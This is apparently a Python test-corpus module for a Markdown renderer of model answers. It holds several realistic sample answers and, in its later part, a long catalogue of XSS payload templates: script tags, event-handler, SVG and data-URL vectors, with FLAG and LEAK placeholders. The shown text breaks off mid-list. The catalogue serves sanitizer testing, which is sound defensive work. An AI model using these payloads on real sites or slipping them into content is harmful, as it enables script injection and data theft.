"""Text corpora for rendering model answers: realistic Markdown answers (``SECTIONS``,
``answer``) for the streaming benchmark and renderer tests, XSS payloads written the way a
model might answer (``PAYLOADS``, ``instantiate``), and one ordinary answer with the elements
a correct rendering must contain (``ORDINARY``, ``ORDINARY_EXPECT``)."""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass

__all__ = [
    "CATEGORIES",
    "INDIRECT",
    "MARK",
    "ORDINARY",
    "ORDINARY_EXPECT",
    "PAYLOADS",
    "SECTIONS",
    "Payload",
    "answer",
    "instantiate",
    "joined",
    "pieces",
]

# ---------------------------------------------------------------------------------------
# 1. Realistic answers
# ---------------------------------------------------------------------------------------

_CHURN = r"""## Churn analysis: what the numbers say

I looked at the **12-month cohort** (48,210 accounts) and compared the customers who churned with those who renewed. The short version: *onboarding depth* matters far more than price.

### Key findings

1. Accounts that invited at least 3 teammates in week one churned at 6.1% vs 17.4% for single-seat accounts.
2. The difference is significant: a two-proportion z-test gives $z = 9.8$, so $p < 0.05$ by a wide margin (we used $\alpha = 0.05$ throughout).
3. Price changes had no measurable effect once seat count was controlled for:
   - the 2023 increase moved churn by 0.3 points (the interval crosses zero);
   - discount codes helped only in the first 30 days.
4. Support tickets are a *lagging* signal — they spike **after** usage drops.

| Segment | Accounts | Churn rate | Median seats |
|:--------|---------:|-----------:|:------------:|
| Solo | 21,904 | 17.4% | 1 |
| Small team | 18,377 | 9.2% | 4 |
| Mid-market | 6,820 | 6.1% | 23 |
| Enterprise | 1,109 | 2.8% | 310 |

> Correlation is not causation: teams that invite colleagues early may simply be the ones with a real use case. An A/B test on the invite prompt would settle it.

The overall rate is the seat-weighted mean of the segment rates:

$$
\bar{c} = \frac{\sum_{i=1}^n w_i c_i}{\sum_{i=1}^n w_i}
$$
"""

_PANDAS = r"""## A pandas pipeline for the events table

Here is a pipeline that cleans the raw `events.parquet` export and builds a daily activity table. The steps are small so each one can be tested on its own.

- **Load**: read only the columns you need.
- **Filter**: drop bots and internal accounts.
  - bots have a `user_agent` containing `bot` or `crawler`;
  - internal accounts have an address ending in `@example.org`.
- **Aggregate**: one row per account per day.

```python
import pandas as pd

COLUMNS = ["account_id", "ts", "event", "user_agent", "email"]


def load(path: str) -> pd.DataFrame:
    df = pd.read_parquet(path, columns=COLUMNS)
    df["ts"] = pd.to_datetime(df["ts"], utc=True)
    return df


def clean(df: pd.DataFrame) -> pd.DataFrame:
    is_bot = df["user_agent"].str.contains("bot|crawler", case=False, na=False)
    internal = df["email"].str.endswith("@example.org", na=False)
    recent = (df["ts"] >= "2024-01-01") & (df["ts"] < "2025-01-01")
    return df[~is_bot & ~internal & recent]


def daily(df: pd.DataFrame) -> pd.DataFrame:
    return (
        df.assign(day=df["ts"].dt.floor("D"))
        .groupby(["account_id", "day"], as_index=False)
        .agg(events=("event", "size"), kinds=("event", "nunique"))
        .query("events > 0 and kinds <= 40")
    )
```

A few notes:

1. `str.contains` with `na=False` avoids a `TypeError` on missing user agents.
2. Each comparison needs its own parentheses, because `&` binds tighter than `<` and `>=`.
3. If memory is tight, read in batches with `pyarrow.dataset` — see [the pyarrow docs](https://example.org/docs/pyarrow/dataset).
"""

_MIGRATION = r"""## Migrating the orders schema

The migration splits `orders.amount` into `amount_cents` and `currency`. Run it in three steps so the application never sees a half-migrated table.

1. Add the new columns (nullable, so this is instant on PostgreSQL 11+):

   ```sql
   ALTER TABLE orders
     ADD COLUMN amount_cents bigint,
     ADD COLUMN currency char(3);
   ```

2. Backfill in batches of 10,000 rows to keep the locks short:

   ```sql
   UPDATE orders
   SET amount_cents = round(amount * 100), currency = 'EUR'
   WHERE id > :last_id AND id <= :last_id + 10000
     AND amount_cents IS NULL
     AND amount <> 0;
   ```

3. Once the backfill is done, add the constraint and drop the old column:

   ```sql
   ALTER TABLE orders
     ALTER COLUMN amount_cents SET NOT NULL,
     ADD CONSTRAINT amount_positive CHECK (amount_cents >= 0);
   -- only after every reader uses amount_cents:
   ALTER TABLE orders DROP COLUMN amount;
   ```

---

**Rollback plan:** steps 1 and 2 are reversible (`DROP COLUMN amount_cents`); step 3 is not, so take a snapshot first. Check progress with:

```sql
SELECT count(*) FILTER (WHERE amount_cents IS NULL) AS remaining,
       count(*) FILTER (WHERE amount_cents < 0 OR amount < 0) AS negative
FROM orders
WHERE created_at > now() - interval '90 days';
```
"""

_API = r"""## Designing the usage API

For the billing dashboard I'd expose three read-only endpoints. Keep them boring: plain JSON, cursor pagination and ISO 8601 timestamps everywhere.

| Method | Path | Purpose | Cache |
|:------:|:-----|:--------|------:|
| GET | `/v1/accounts/{id}/usage` | daily usage for one account | 60 s |
| GET | `/v1/accounts/{id}/invoices` | invoices, newest first | 300 s |
| GET | `/v1/plans` | public plan catalogue | 1 h |

A response from the usage endpoint looks like this:

```json
{
  "account_id": "acc_8f2k",
  "from": "2024-05-01T00:00:00Z",
  "to": "2024-05-31T23:59:59Z",
  "rows": [
    {"day": "2024-05-01", "seats": 12, "events": 5310},
    {"day": "2024-05-02", "seats": 12, "events": 4876}
  ],
  "note": "events < 0 are corrections & refunds, see <div class=\"help\">docs</div>",
  "next": null
}
```

Design notes:

- Use **cursor** pagination (`?cursor=...&limit=100`), not offsets — offsets skip rows when new data arrives.
- Return `429` with a `Retry-After` header when a client exceeds 10 requests per second.
- Errors follow [RFC 9457 problem details](https://example.org/rfc/9457); a summary is at <https://example.org/specs/problem-details>.
- Put the version in the path (`/v1/`), never in a header: it is easier to see in logs.
"""

_STATS = r"""## Statistics refresher: reading a confidence interval

A 95% confidence interval is a statement about the *procedure*, not about this particular interval: if we repeated the experiment many times, about 95% of the intervals built this way would contain the true value.

The total of the sample is

$$
\sum_{i=1}^n x_i
$$

and for a mean with known variance the interval is

$$
\bar{x} \pm z_{1-\alpha/2} \frac{\sigma}{\sqrt{n}}
$$

### Common mistakes

- Saying "there is a 95% chance the true mean is in [4.1, 5.3]". ~~That is a credible interval.~~ That reading belongs to a Bayesian credible interval, not to this one.
- Treating $p < 0.05$ as "the effect is large". With $n = 10^6$ a tiny difference is significant.
- Running twenty tests at $\alpha = 0.05$ and reporting the one that "worked". Use a correction such as Bonferroni ($\alpha / m$) or Benjamini–Hochberg.
- Forgetting that $\sigma$ is usually estimated, so the $t$ distribution applies when $n < 30$.

> **Rule of thumb:** report the effect size and its interval first, the p-value second.
"""

_DEPLOY = (
    r"""## A deploy script for the API

This is the script I'd put in `deploy/release.sh`. It builds the image, runs the migrations, and only then switches traffic.

```bash
#!/usr/bin/env bash
set -euo pipefail

APP=usage-api
TAG="$(git rev-parse --short HEAD)"
LOG="/var/log/${APP}/deploy-$(date +%F).log"

log() { echo "[$(date +%T)] $*" | tee -a "$LOG" >&2; }

[[ -n "${REGISTRY:-}" ]] || { log "REGISTRY is not set"; exit 1; }

log "building ${APP}:${TAG}"
docker build -t "${REGISTRY}/${APP}:${TAG}" . > /dev/null 2>&1
docker push "${REGISTRY}/${APP}:${TAG}"

log "running migrations"
if ! kubectl exec deploy/${APP} -- alembic upgrade head >> "$LOG" 2>&1; then
  log "migration failed, not switching traffic"
  exit 2
fi

kubectl set image deploy/${APP} app="${REGISTRY}/${APP}:${TAG}" && \
  kubectl rollout status deploy/${APP} --timeout=120s

cat > /tmp/status.html <<EOF
<div class="deploy">Deployed ${TAG} at $(date)</div>
<script>window.deployed = "${TAG}";</script>
EOF
```

Before the first run:

- Install the tools:
  ```bash
  brew install kubectl && docker --version
  ```
- Export `REGISTRY`, for example `export REGISTRY=registry.example.org/team`.
- Make the script executable with `chmod +x deploy/release.sh`.

"""
    "The script exits with:  \n"
    r"""`0` on success, `1` without a registry and `2` when a migration fails.
"""
)

_REACT = r"""## A React component for the usage chart

The component below fetches daily usage and renders a small bar chart. It escapes nothing by hand: React does that, so a label like `<b>Team A</b>` shows up as text.

```javascript
import { useEffect, useState } from "react";

export function UsageChart({ accountId, max = 100 }) {
  const [rows, setRows] = useState([]);
  const [error, setError] = useState(null);

  useEffect(() => {
    const ctrl = new AbortController();
    fetch(`/v1/accounts/${accountId}/usage?limit=${max}`, { signal: ctrl.signal })
      .then((r) => (r.ok ? r.json() : Promise.reject(r.status)))
      .then((body) => setRows(body.rows))
      .catch((e) => e.name !== "AbortError" && setError(String(e)));
    return () => ctrl.abort();
  }, [accountId, max]);

  if (error) return <div className="error">Failed: {error}</div>;
  const peak = Math.max(1, ...rows.map((r) => r.events));
  return (
    <div className="chart">
      {rows.length > 0 && rows.map((r) => (
        <div key={r.day} style={{ height: `${(100 * r.events) / peak}%` }} title={r.day} />
      ))}
    </div>
  );
}
```

To embed it in a static page instead, the loader is plain HTML:

```html
<!doctype html>
<div id="root"></div>
<script type="module">
  import { UsageChart } from "./chart.js";
  // never write a literal "</script>" inside an inline script
  const note = "<b>usage</b> & billing";
  document.title = note.replace(/<[^>]+>/g, "");
</script>
```

- Keep `max` ≤ 365; the API rejects larger pages.
- Wrap the chart in an error boundary so one bad row doesn't blank the dashboard.
"""

_CONFIG = r"""## Review of `config/production.json`

I went through the production config. Most of it is fine; three things need attention.

```json
{
  "server": {"host": "0.0.0.0", "port": 8080, "workers": 4},
  "database": {"url": "postgres://app@db.internal:5432/app", "pool": 50},
  "cache": {"ttl_seconds": 0},
  "cors": {"allow_origins": ["*"]},
  "features": {"new_billing": true, "legacy_export": false}
}
```

1. **`cors.allow_origins` is `*`.** With cookies browsers refuse this anyway; list the dashboard origin explicitly.
2. ~~The pool is a bit large.~~ A pool of 50 × 4 workers is 200 connections, above the database limit of 100. Use 20.
3. `cache.ttl_seconds` is `0`, which *disables* caching → every request hits the database.

> The rest (timeouts, log level, feature flags) matches the staging config, which has been stable for months.

Some of the reviewer's markup came through as HTML: they wrote <b>bold</b> for emphasis and put a line break<br>inside a sentence.

<div>block</div>

<details><summary>more</summary>text</details>

Summary: fix CORS and the pool size before the next release; the cache TTL can wait.
"""

_CLIENT = r"""## The feature store client

The whole module:

```python
'''Feature store client.'''
from __future__ import annotations

import argparse
import json
import sys
import time
from dataclasses import dataclass
from typing import Any, Iterator

import httpx

RETRY = {429, 502, 503, 504}


class StoreError(RuntimeError):
    pass


@dataclass
class Feature:
    name: str
    dtype: str
    ttl: int = 86_400

    def fresh(self, age: float) -> bool:
        return 0 <= age < self.ttl


@dataclass
class Client:
    base: str
    token: str
    timeout: float = 10.0
    retries: int = 3
    http: httpx.Client | None = None

    def __enter__(self) -> Client:
        self.http = httpx.Client(
            base_url=self.base,
            timeout=self.timeout,
            headers={"Authorization": f"Bearer {self.token}"},
        )
        return self

    def __exit__(self, *exc: object) -> None:
        if self.http is not None:
            self.http.close()
            self.http = None

    def get(self, path: str, **params: Any) -> Any:
        assert self.http, "use a with block"
        delay = 0.5
        for attempt in range(self.retries + 1):
            r = self.http.get(path, params=params)
            if r.status_code < 400:
                return r.json()
            if r.status_code not in RETRY:
                raise StoreError(f"{path}: {r.status_code}")
            if attempt < self.retries:
                time.sleep(delay)
                delay = min(delay * 2, 8.0)
        raise StoreError(f"{path}: gave up")

    def features(self, tag: str = "") -> list[Feature]:
        rows = self.get("/v1/features", tag=tag)
        return [Feature(**row) for row in rows]

    def values(self, entity: str, names: list[str]) -> Iterator[dict]:
        cursor = ""
        while True:
            batch = self.get(
                f"/v1/entities/{entity}/values",
                names=",".join(names),
                cursor=cursor,
            )
            yield from batch["rows"]
            cursor = batch.get("next") or ""
            if not cursor:
                return


def summarise(rows: list[dict]) -> dict[str, Any]:
    n = len(rows)
    nulls = sum(1 for r in rows if None in r.values())
    return {
        "rows": n,
        "null_rate": nulls / n if n else 0.0,
        "ok": n > 0 and nulls < n // 10,
    }


def check(value: Any, dtype: str) -> bool:
    if dtype == "int":
        return isinstance(value, int) and value >= 0
    if dtype == "float":
        return isinstance(value, float) and -1e9 < value < 1e9
    if dtype == "str":
        return isinstance(value, str) and "<" not in value
    return value is not None


def parse_args(argv: list[str]) -> argparse.Namespace:
    p = argparse.ArgumentParser(prog="fstore")
    p.add_argument("--base", default="https://example.org/api")
    p.add_argument("--token", required=True)
    p.add_argument("--entity", default="account")
    p.add_argument("--tag", default="")
    p.add_argument("--limit", type=int, default=1000)
    p.add_argument("--json", action="store_true")
    return p.parse_args(argv)


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv or sys.argv[1:])
    with Client(args.base, args.token) as c:
        feats = c.features(args.tag)
        if not feats:
            print("no features", file=sys.stderr)
            return 1
        rows = []
        for row in c.values(args.entity, [f.name for f in feats]):
            rows.append(row)
            if len(rows) >= args.limit:
                break
    kinds = {f.name: f.dtype for f in feats}
    bad = [
        (i, k)
        for i, r in enumerate(rows)
        for k, v in r.items()
        if k in kinds and not check(v, kinds[k])
    ]
    report = summarise(rows)
    report["bad"] = len(bad)
    if args.json:
        json.dump(report, sys.stdout, indent=2)
    else:
        for key, val in report.items():
            print(f"{key:>10}: {val}")
    return 0 if report["ok"] and not bad else 2


if __name__ == "__main__":
    sys.exit(main())
```
"""

_LATENCY = r"""## Latency by endpoint, last 7 days

All 60 public endpoints, sorted as in the router; times in milliseconds, errors are 5xx only.

| # | Method | Endpoint | Calls/day | p50 ms | p99 ms | Errors |
|--:|:-----:|:--------|---------:|------:|------:|------:|
| 1 | GET | /v1/accounts | 891 | 23 | 166 | 0.12% |
| 2 | GET | /v1/accounts/{id} | 1,244 | 16 | 69 | 0.12% |
| 3 | PATCH | /v1/accounts/{id} | 74,867 | 10 | 84 | 0.44% |
| 4 | GET | /v1/accounts/{id}/usage | 608,646 | 11 | 45 | 0.00% |
| 5 | GET | /v1/accounts/{id}/invoices | 1,696 | 40 | 209 | 0.17% |
| 6 | GET | /v1/accounts/{id}/members | 485,198 | 37 | 193 | 1.59% |
| 7 | POST | /v1/accounts/{id}/members | 370,160 | 18 | 73 | 0.00% |
| 8 | DELETE | /v1/accounts/{id}/members/{uid} | 522,714 | 35 | 237 | 1.34% |
| 9 | GET | /v1/plans | 739,070 | 39 | 335 | 0.18% |
| 10 | GET | /v1/plans/{id} | 7,867 | 7 | 63 | 1.40% |
| 11 | POST | /v1/subscriptions | 761,438 | 39 | 369 | 0.27% |
| 12 | GET | /v1/subscriptions/{id} | 238,807 | 25 | 95 | 0.04% |
| 13 | PATCH | /v1/subscriptions/{id} | 9,102 | 34 | 153 | 0.25% |
| 14 | POST | /v1/subscriptions/{id}/cancel | 6,333 | 29 | 255 | 0.30% |
| 15 | GET | /v1/invoices/{id} | 285,509 | 17 | 88 | 0.00% |
| 16 | GET | /v1/invoices/{id}/pdf | 8,545 | 352 | 2882 | 1.74% |
| 17 | POST | /v1/payments | 514,913 | 38 | 206 | 0.00% |
| 18 | GET | /v1/payments/{id} | 961 | 31 | 139 | 0.17% |
| 19 | POST | /v1/refunds | 165,766 | 4 | 14 | 0.29% |
| 20 | GET | /v1/events | 513,730 | 10 | 47 | 0.29% |
| 21 | POST | /v1/events | 2,745 | 24 | 165 | 0.06% |
| 22 | POST | /v1/events/batch | 8,752 | 115 | 986 | 0.21% |
| 23 | GET | /v1/exports | 826,898 | 125 | 591 | 0.00% |
| 24 | POST | /v1/exports | 219,629 | 162 | 1361 | 0.00% |
| 25 | GET | /v1/exports/{id} | 478,952 | 183 | 910 | 0.00% |
| 26 | GET | /v1/exports/{id}/download | 3,448 | 92 | 391 | 1.31% |
| 27 | GET | /v1/reports/churn | 6,465 | 83 | 473 | 0.36% |
| 28 | GET | /v1/reports/revenue | 495,659 | 210 | 1252 | 0.00% |
| 29 | GET | /v1/reports/cohorts | 9,779 | 127 | 725 | 0.18% |
| 30 | GET | /v1/features | 450 | 25 | 127 | 0.16% |
| 31 | GET | /v1/features/{name} | 233,115 | 15 | 90 | 0.15% |
| 32 | GET | /v1/entities/{id}/values | 785,864 | 19 | 144 | 1.32% |
| 33 | POST | /v1/entities/{id}/values | 2,242 | 29 | 260 | 0.16% |
| 34 | GET | /v1/search | 2,554 | 133 | 1021 | 1.45% |
| 35 | GET | /v1/audit-log | 9,200 | 6 | 32 | 0.00% |
| 36 | POST | /v1/webhooks | 7,508 | 20 | 68 | 0.23% |
| 37 | GET | /v1/webhooks | 219,089 | 23 | 150 | 0.14% |
| 38 | DELETE | /v1/webhooks/{id} | 4,353 | 35 | 304 | 0.00% |
| 39 | POST | /v1/webhooks/{id}/test | 4,042 | 28 | 123 | 0.00% |
| 40 | POST | /v1/auth/token | 159,924 | 12 | 99 | 0.00% |
| 41 | POST | /v1/auth/refresh | 179,309 | 9 | 51 | 0.30% |
| 42 | POST | /v1/auth/logout | 30,429 | 15 | 63 | 0.00% |
| 43 | GET | /v1/me | 8,492 | 27 | 161 | 0.00% |
| 44 | PATCH | /v1/me | 3,074 | 8 | 30 | 1.70% |
| 45 | GET | /v1/me/notifications | 608,312 | 19 | 112 | 0.00% |
| 46 | POST | /v1/uploads | 375 | 14 | 60 | 0.00% |
| 47 | GET | /v1/uploads/{id} | 365,626 | 7 | 27 | 0.00% |
| 48 | GET | /v1/teams | 179,291 | 5 | 25 | 0.02% |
| 49 | POST | /v1/teams | 7,402 | 22 | 113 | 0.08% |
| 50 | GET | /v1/teams/{id} | 208,659 | 5 | 25 | 0.89% |
| 51 | PATCH | /v1/teams/{id} | 541,298 | 30 | 207 | 0.21% |
| 52 | GET | /v1/projects | 434,356 | 15 | 123 | 0.00% |
| 53 | POST | /v1/projects | 7,157 | 7 | 56 | 1.68% |
| 54 | GET | /v1/projects/{id}/dashboards | 841 | 21 | 151 | 0.05% |
| 55 | POST | /v1/projects/{id}/dashboards | 9,063 | 26 | 261 | 0.00% |
| 56 | GET | /v1/dashboards/{id}/render | 507,699 | 222 | 1011 | 0.40% |
| 57 | GET | /v1/status | 2,457 | 3 | 16 | 0.60% |
| 58 | GET | /healthz | 699,484 | 17 | 99 | 0.23% |
| 59 | GET | /metrics | 55,915 | 12 | 68 | 0.00% |
| 60 | POST | /v1/admin/reindex | 363 | 308 | 2277 | 0.08% |

The PDF, render and reindex endpoints dominate the p99; all three are candidates for a queue.
"""

_I18N = r"""## Internationalisation notes 🌍

The UI strings now go through the translation catalogue. A few things I noticed while testing with real data:

- Names with accents (*José*, *Müller*, *Zoë*) sort correctly only with `locale.strxfrm` or ICU collation — plain `sorted()` puts "Ärger" after "Zebra".
- Chinese text has no spaces between words: 数据分析报告 (data analysis report) can wrap anywhere, so use `word-break: normal` rather than `break-all`.
- The em dash — and the arrow → render fine in every font we ship.
  - The fallback font lacks 🙂 and 🚀, so emoji show as boxes on the kiosk build.
  - Right-to-left text (e.g. Arabic مرحبا) needs `dir="auto"` on its container.
- Currency follows the user's locale: `1 234,56 €` in France, `€1,234.56` in Ireland.

| Locale | Sample | Status |
|:-------|:-------|:------:|
| fr-FR | Données mises à jour | ✅ |
| de-DE | Übersicht für März | ✅ |
| zh-CN | 用户 → 账户 | ⚠️ partial |
| ja-JP | 請求書の概要 | ❌ missing |

References: [the Unicode collation algorithm](https://example.org/unicode/uca) and <https://example.org/i18n/checklist>.
"""

_PRICING = r"""## Pricing options for the team plan

You asked how to price the new team tier. Most competitors charge $5 to $10 per seat per month, with an annual discount of about 20%.

Three options:

1. **Flat per seat** — $8 per seat. Simple, but large teams balk at $8 × 300 seats.
2. **Tiered** — $10 per seat for the first 10 seats, $6 after that. Revenue per account is smoother.
3. **Usage-based** — $0.002 per event with a $49 minimum. Fairest, but the hardest to forecast (and customers hate surprises).

| Plan | Seats | Monthly price | Annual price |
|:-----|------:|--------------:|-------------:|
| Starter | 1–5 | free | free |
| Team | 6–50 | $8/seat | $76.80/seat |
| Business | 51–500 | $6/seat | $57.60/seat |

My recommendation is option 2: it keeps the headline price at $10 while staying competitive for larger teams. If finance wants a single number to model, use an average of $7.20 per seat.
"""

_TESTING = r"""## Testing the ETL job

The job is easiest to test when each stage is a pure function. A minimal pytest setup:

```python
import pandas as pd
import pytest

from etl import clean, daily


@pytest.fixture
def raw() -> pd.DataFrame:
    return pd.DataFrame({
        "account_id": [1, 1, 2],
        "ts": pd.to_datetime(["2024-03-01", "2024-03-01", "2024-03-02"], utc=True),
        "event": ["login", "export", "login"],
        "user_agent": ["Mozilla/5.0", "Googlebot/2.1", "curl/8.4"],
        "email": ["a@corp.test", "a@corp.test", "ops@example.org"],
    })


def test_clean_drops_bots_and_internal(raw):
    out = clean(raw)
    assert len(out) == 1
    assert (out["user_agent"] != "Googlebot/2.1").all()


@pytest.mark.parametrize("n", [0, 1, 1000])
def test_daily_counts(raw, n):
    frame = pd.concat([raw] * max(n, 1))
    assert daily(frame)["events"].min() >= 1
```

Then:

1. Run the fast tests on every commit: `pytest -q -m "not slow"`.
2. Run the slow ones nightly:
   1. refresh the sample data with `make sample`;
   2. run `pytest -m slow --maxfail=1`;
   3. post the report to the data channel.
3. Fail the build if coverage drops below 85%.

***

See also [the testing guide](https://example.org/guides/testing#etl) for fixtures that load real parquet files.
"""

_SUMMARY = r"""## Summary and next steps

To recap what we covered:

* The churn drivers are onboarding depth and team size, not price.
* The events pipeline is ready; the migration runs in **three** steps, two of them reversible.
* The API design is agreed, pending a review of the error codes.

### Next steps

1. Ship the invite prompt experiment (owner: Ana, due *Friday*).
2. Run the orders migration on staging:
   - take a snapshot first;
   - watch replication lag while the backfill runs.
3. Fix the CORS and pool settings in `config/production.json`.

---

> “Make it work, make it right, make it fast.” — Kent Beck

Questions? Ask here or open an issue at <https://example.org/tracker/new>.
"""

SECTIONS: tuple[str, ...] = (
    _CHURN,
    _PANDAS,
    _MIGRATION,
    _API,
    _STATS,
    _DEPLOY,
    _REACT,
    _CONFIG,
    _CLIENT,
    _LATENCY,
    _I18N,
    _PRICING,
    _TESTING,
    _SUMMARY,
)

_FENCE = re.compile(r"^[ ]*(`{3,}|~{3,})(.*)$")


def _blocks(section: str) -> tuple[str, ...]:
    """``section`` cut at the blank lines that end a top-level block (the next line starts
    in column 0) outside fenced code and ``$$`` math; each piece ends with a blank line."""
    lines = section.strip("\n").split("\n")
    blocks: list[str] = []
    current: list[str] = []
    fence = ""
    in_math = False
    for i, line in enumerate(lines):
        current.append(line)
        match = _FENCE.match(line)
        if fence:
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence):
                fence = "" if not match.group(2).strip() else fence
        elif in_math:
            in_math = line.strip() != "$$"
        elif match:
            fence = match.group(1)
        elif line.strip() == "$$":
            in_math = True
        elif not line.strip() and i + 1 < len(lines) and lines[i + 1][:1] not in ("", " ", "\t"):
            blocks.append("\n".join(current[:-1]) + "\n\n")
            current = []
    blocks.append("\n".join(current) + "\n\n")
    return tuple(blocks)


_SECTION_BLOCKS = tuple(_blocks(section) for section in SECTIONS)


def answer(size: int) -> str:
    """A deterministic assistant answer of about ``size`` characters.

    The sections are concatenated in order, cycling (from the second cycle on, each section's
    heading is prefixed with the cycle number so the text is not a byte-for-byte repeat).
    The text is assembled from whole top-level blocks, so it always ends with a blank line
    and never inside a code fence or a ``$$`` block. A block that would overshoot
    ``1.1 * size`` is skipped while the text is still shorter than ``0.9 * size``; for every
    ``size`` from 800 to 200_000 the length lies within 10% of ``size``.
    """
    if size <= 0:
        return ""
    low, high = 0.9 * size, 1.1 * size
    parts: list[str] = []
    total = 0
    cycle = 0
    while True:
        added = False
        for blocks in _SECTION_BLOCKS:
            for index, block in enumerate(blocks):
                text = block
                if cycle and index == 0 and block.startswith("## "):
                    text = f"## ({cycle + 1}) {block[3:]}"
                if total + len(text) > high:
                    if total >= low:
                        return "".join(parts)
                    continue
                parts.append(text)
                total += len(text)
                added = True
                if total >= size:
                    return "".join(parts)
        if not added:  # only for sizes far below 800: nothing fits
            return "".join(parts)
        cycle += 1


# ---------------------------------------------------------------------------------------
# 2. XSS payloads as a model might write them
# ---------------------------------------------------------------------------------------

MARK = "\u241e"  # ␞: where a split-stream payload is cut into separate deltas


@dataclass(frozen=True)
class Payload:
    """``template`` holds ``FLAG`` (a JavaScript statement without quotes or spaces) and/or
    ``LEAK`` (an absolute http URL the browser must never request)."""

    name: str
    category: str
    template: str


# A data: page that runs its own fragment: data:text/html;base64,<this>#FLAG runs FLAG.
_DATA_PAGE = base64.b64encode(
    b"<script>eval(decodeURIComponent(location.hash.slice(1)))</script>"
).decode("ascii")
_GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

_SCRIPT = (
    ("plain", "<script>FLAG</script>"),
    ("upper", "<SCRIPT>FLAG</SCRIPT>"),
    ("mixed-case", "<ScRiPt>FLAG</sCrIpT>"),
    ("type-attr", '<script type="text/javascript">FLAG</script>'),
    ("module", "<script type=module>FLAG</script>"),
    ("language-attr", '<script language="javascript">FLAG</script>'),
    ("attrs-on-lines", '<script\n  type="text/javascript"\n  data-id="1"\n>FLAG</script>'),
    ("space-before-gt", "<script >FLAG</script >"),
    ("newline-in-end-tag", "<script>FLAG</script\n>"),
    ("src", "<script src=LEAK></script>"),
    ("src-quoted-async", '<script src="LEAK" async crossorigin></script>'),
    ("src-fake-self-closing", "<script src=LEAK /></script>"),
    ("src-data-url", '<script src="data:text/javascript,FLAG"></script>'),
    ("src-onerror", "<script src=LEAK onerror=FLAG></script>"),
    ("for-window-onload", "<script for=window event=onload>FLAG</script>"),
    ("comment-wrapped", "<script><!--\nFLAG\n//--></script>"),
    ("cdata-wrapped", "<script>//<![CDATA[\nFLAG\n//]]></script>"),
    ("double-open", "<<script>FLAG</script>"),
    ("double-open-upper", "<<SCRIPT>FLAG//<</SCRIPT>"),
    ("inline-in-sentence", "Add this line: <script>FLAG</script> and reload the page."),
    ("after-closing-textarea", "</textarea><script>FLAG</script>"),
    ("after-closing-title-style", "</title></style><script>FLAG</script>"),
    ("after-closing-p", "done.</p><script>FLAG</script><p>"),
    ("nested-strip-once", "<scr<script>ipt>FLAG</scr</script>ipt>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.FLAG</script>"></iframe>'),
)

_EVENT_HANDLER = (
    ("img-onerror", "<img src=x onerror=FLAG>"),
    ("img-onerror-quoted", '<img src="x" onerror="FLAG">'),
    ("img-upper", "<IMG SRC=x ONERROR=FLAG>"),
    ("img-slash-separators", '<img/src="x"/onerror=FLAG>'),
    ("img-newline-attrs", "<img\nsrc=x\nonerror=FLAG\n>"),
    ("img-tab-separators", "<img\tsrc=x\tonerror=FLAG>"),
    ("img-empty-src", "<img src onerror=FLAG>"),
    ("img-onload", f'<img src="{_GIF}" onload=FLAG>'),
    ("img-handler-before-src", '<img alt="chart" onerror=FLAG src=missing.png>'),
    ("image-alias", "<image src=x onerror=FLAG>"),
    ("body-onload", "<body onload=FLAG>"),
    ("body-onpageshow", "<body onpageshow=FLAG>"),
    ("svg-onload", "<svg onload=FLAG>"),
    ("svg-slash-onload", "<svg/onload=FLAG>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=FLAG attributeName=x dur=1s></svg>"),
    ("svg-animate-onend", "<svg><animate onend=FLAG attributeName=x dur=0.1s></svg>"),
    ("video-onerror", "<video src=x onerror=FLAG></video>"),
    ("video-source-onerror", "<video><source onerror=FLAG></video>"),
    ("audio-onerror", "<audio src=x onerror=FLAG></audio>"),
    ("audio-onloadstart", "<audio src=x onloadstart=FLAG></audio>"),
    ("details-ontoggle", "<details open ontoggle=FLAG><summary>More</summary>details</details>"),
    ("details-ontoggle-bare", "<details ontoggle=FLAG open>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=FLAG>"),
    ("input-autofocus-onfocusin", "<input autofocus onfocusin=FLAG>"),
    ("input-image-onerror", "<input type=image src=x onerror=FLAG>"),
    ("select-autofocus", "<select autofocus onfocus=FLAG><option>1</option></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=FLAG>notes</textarea>"),
    ("button-autofocus", "<button autofocus onfocus=FLAG>OK</button>"),
    ("contenteditable-autofocus", "<div contenteditable autofocus onfocus=FLAG>edit me</div>"),
    ("iframe-onload", "<iframe onload=FLAG></iframe>"),
    ("iframe-srcdoc-onload", '<iframe srcdoc="hello" onload=FLAG></iframe>'),
    ("marquee-onstart", "<marquee onstart=FLAG>Breaking news</marquee>"),
    ("style-onload", "<style onload=FLAG></style>"),
    ("link-onload", '<link rel=stylesheet href="data:text/css," onload=FLAG>'),
    (
        "animationstart",
        '<style>@keyframes nbx{}</style><div style="animation-name:nbx" onanimationstart=FLAG></div>',
    ),
    (
        "animationend",
        "<style>@keyframes nby{from{opacity:1}to{opacity:.9}}</style>"
        '<p style="animation:nby .1s" onanimationend=FLAG>fading</p>',
    ),
    ("div-onmouseover", "<div onmouseover=FLAG>Hover over this note.</div>"),
    ("a-onmouseover", '<a onmouseover="FLAG">hover for details</a>'),
    ("span-onpointerenter", "<span onpointerenter=FLAG>move the pointer here</span>"),
    ("p-onclick", "<p onclick=FLAG>Click to expand.</p>"),
    ("script-onerror", "<script src=x onerror=FLAG></script>"),
)

_SVG_MATHML = (
    ("svg-script", "<svg><script>FLAG</script></svg>"),
    (
        "svg-script-xmlns",
        '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">FLAG</script></svg>',
    ),
    ("svg-script-entities", "<svg><script>&#x2f;&#x2f;x&#x0a;FLAG</script></svg>"),
    ("svg-script-href", "<svg><script href=LEAK></script></svg>"),
    ("svg-script-xlink-href", '<svg><script xlink:href="LEAK"></script></svg>'),
    ("svg-set-onbegin", "<svg><set onbegin=FLAG attributeName=x to=1 dur=1s></svg>"),
    ("svg-discard-onbegin", "<svg><discard onbegin=FLAG>"),
    (
        "svg-animate-values-href",
        "<svg><a><animate attributeName=href values=javascript:FLAG /><text x=20 y=20>Click me</text></a></svg>",
    ),
    (
        "svg-set-href",
        "<svg><a><set attributeName=href to=javascript:FLAG /><text x=20 y=20>Open chart</text></a></svg>",
    ),
    (
        "svg-animate-xlink-target",
